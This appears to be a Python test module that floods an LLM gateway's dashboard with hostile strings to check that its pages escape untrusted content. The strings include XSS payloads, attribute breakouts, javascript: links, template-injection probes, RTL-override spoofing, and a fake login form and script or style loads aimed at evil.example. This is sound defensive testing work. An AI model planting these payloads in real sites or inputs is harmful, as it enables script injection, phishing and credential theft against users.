"""Texts that would be more than text on a page that is not careful, and the traffic that brings them everywhere."""

import time
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any, TypeVar

import msgspec

from tests.gateway.dashboard.pages import Dashed, dashed
from tests.gateway.house import settings_for, two_tiers
from tests.gateway.plain_http import call
from tiercel.domain.catalog import Deployment
from tiercel.domain.climb import Verdict
from tiercel.domain.failure import Failure
from tiercel.domain.record import AttemptRecord, Feedback, Record
from tiercel.domain.response import Usage
from tiercel.testing.replies.said import Called
from tiercel.testing.scripted import Says, ScriptedProvider

Struct = TypeVar("Struct", bound=msgspec.Struct)

HOSTILE: dict[str, str] = {
    "script": "<script>pwned()</script>",
    "script in capitals": "<ScRiPt SRC=//evil.example/x.js></sCrIpT>",
    "closing the JSON block": '</script><script>pwned()</script><script type="application/json">{}',
    "closing a comment": "--><script>pwned()</script><!--",
    "closing the title": "</title></textarea></style><script>pwned()</script>",
    "image": "<img src=x onerror=pwned()>",
    "image with slashes": "<img/src=`x`/onerror=pwned()//",
    "leaving double quotes": '" autofocus onfocus="pwned()" x="',
    "leaving single quotes": "' onmouseover='pwned()' x='",
    "leaving an attribute": '"><svg onload=pwned()>',
    "svg": "<svg><script>pwned()</script></svg>",
    "svg animation": '<svg><animate onbegin=pwned() attributeName="x" dur="1s"/></svg>',
    "svg link": '<svg><a xlink:href="javascript:pwned()"><text x="20" y="20">click</text></a></svg>',
    "javascript link": "javascript:pwned()",
    "link": '<a href="javascript:pwned()">click</a>',
    "data link": '<a href="data:text/html,<script>pwned()</script>">click</a>',
    "hidden javascript link": "java\tscript:pwned()",
    "frame": '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
    "object": '<object data="data:text/html,<script>pwned()</script>"></object>',
    "form": '<form action="//evil.example"><input name=key><button>Log in</button></form>',
    "base": '<base href="//evil.example/">',
    "meta": '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "style": "<style>@import '//evil.example/x.css'; * { display: none }</style>",
    "style attribute": '<p style="position:fixed;inset:0;background:url(//evil.example/x)">',
    "details": "<details open ontoggle=pwned()>",
    "mathml": '<math><mtext><table><mglyph><style><img src=x onerror="pwned()">',
    "template": "{{ 7 * 7 }}{% for x in y %}{{ ''.__class__.__mro__ }}${7*7}<%= 7*7 %>#{7*7}",
    "entities": "&lt;script&gt;pwned()&lt;/script&gt; &#60;script&#62; &amp;lt;",
    "markdown": "[click](javascript:pwned()) ![x](//evil.example/x.png)",
    "other brackets": "\uff1cscript\uff1epwned()\uff1c/script\uff1e \u02c2img src=x\u02c3 \u00bcscript\u00be",
    "backwards": "refund \u202e003$ \u2066hidden\u2069 gnp.exe\u202c",
    "control characters": "bell\x07 escape\x1b[31m red\x1b[0m zero\x00 back\x08 c1\x9b31m",
    "line separators": "one\u2028two\u2029three\r\nfour\x85five",
    "a very long word": "W" * 3_000,
    "many marks": "Z" + "\u0301\u0316\u0489" * 200 + "algo",
    "not a character": "\ufffe\uffff\U0010ffff\ufeff",
}

MODEL = "</script><img src=x onerror=pwned()>"
"""What the operator of this house calls its models: names go into charts."""


def poisoned(value: Struct, text: str) -> Struct:
    """The same with `text` wherever it says anything, even nothing."""
    changes: dict[str, Any] = {}
    for field in msgspec.structs.fields(value):
        old = getattr(value, field.name)
        if field.type in (str, str | None) and old is not None:
            changes[field.name] = text
        elif field.type == tuple[str, ...]:
            changes[field.name] = (text, text)
        elif isinstance(old, msgspec.Struct):
            changes[field.name] = poisoned(old, text)
        elif isinstance(old, tuple):
            changes[field.name] = tuple(
                poisoned(one, text) if isinstance(one, msgspec.Struct) else one for one in old
            )
    return msgspec.structs.replace(value, **changes)


def recorded(kind: str) -> str:
    """The id of the record that is hostile in this way."""
    return f"hostile-{list(HOSTILE).index(kind)}"


def hostile_record(kind: str) -> Record:
    """Two calls, the first of which failed."""
    verdicts = (Verdict(check="", score=0.5, reason=""), Verdict(check="", score=0.0, reason="", error=""))
    failed = AttemptRecord(
        number=1,
        why="first",
        rung="",
        deployment="",
        provider="",
        model="",
        tier="",
        state="failed",
        failure=Failure(kind="server_error", message="", detail="", code=""),
        seconds=0.1,
    )
    answered = msgspec.structs.replace(
        failed,
        number=2,
        why="fallback",
        state="answered",
        failure=None,
        usage=Usage(uncached=10, visible=5),
        cost_nano=1_000_000,
        finish_reason="stop",
        finish_raw="",
        asked_by="",
        missed="",
        upstream_id="",
        verdicts=verdicts,
    )
    blank = Record(
        id="",
        started_at=time.time(),
        seconds=0.4,
        outcome="marked",
        residency="",
        session="",
        attempts=(failed, answered),
        delivered=2,
        problem="",
        message="",
        split="",
        arm="",
        propensity=0.5,
        split_unit="",
    )
    return msgspec.structs.replace(poisoned(blank, HOSTILE[kind]), id=recorded(kind))


@asynccontextmanager
async def hostile_house(folder: Path) -> AsyncIterator[Dashed]:
    """A gateway with content that was asked, answered and told what is hostile, in every way."""
    async with ScriptedProvider() as cheap, ScriptedProvider() as dear:
        deployments = (named(cheap.deployment("cheap"), MODEL), named(dear.deployment("dear"), MODEL))
        settings = settings_for(folder, *deployments)
        storage = msgspec.structs.replace(settings.storage, content="full")
        settings = msgspec.structs.replace(settings, storage=storage)
        async with dashed(folder, policy=two_tiers(), settings=settings) as here:
            for kind, text in HOSTILE.items():
                cheap.default = dear.default = Says(
                    text=text,
                    calls=(Called(name=text, arguments=msgspec.json.encode({text: text}).decode()),),
                )
                await bring(here, text)
                here.house.gateway.recorder.finished(hostile_record(kind))
                said = Feedback(id=recorded(kind), record_id=recorded(kind), at=time.time(), comment=text)
                here.house.gateway.recorder.feedback(said)
            yield here


def named(deployment: Deployment, model: str) -> Deployment:
    """The same, of a model that is called so."""
    return msgspec.structs.replace(deployment, model=msgspec.structs.replace(deployment.model, name=model))


async def bring(here: Dashed, text: str) -> None:
    """Ask, and say something of the answer."""
    tool = {"name": text, "description": text, "parameters": {"type": "object", "properties": {text: {}}}}
    asked = {
        "model": "auto",
        "messages": [{"role": "system", "content": text}, {"role": "user", "content": text}],
        "tools": [{"type": "function", "function": tool}],
    }
    url = here.house.url
    answer = await call(url, "POST", "/v1/chat/completions", msgspec.json.encode(asked))
    assert answer.status == 200, answer.body
    said = {"record": answer.headers["x-tiercel-record"], "verdict": "rejected", "comment": text}
    judged = await call(url, "POST", "/v1/feedback", msgspec.json.encode(said))
    assert judged.status == 201, judged.body
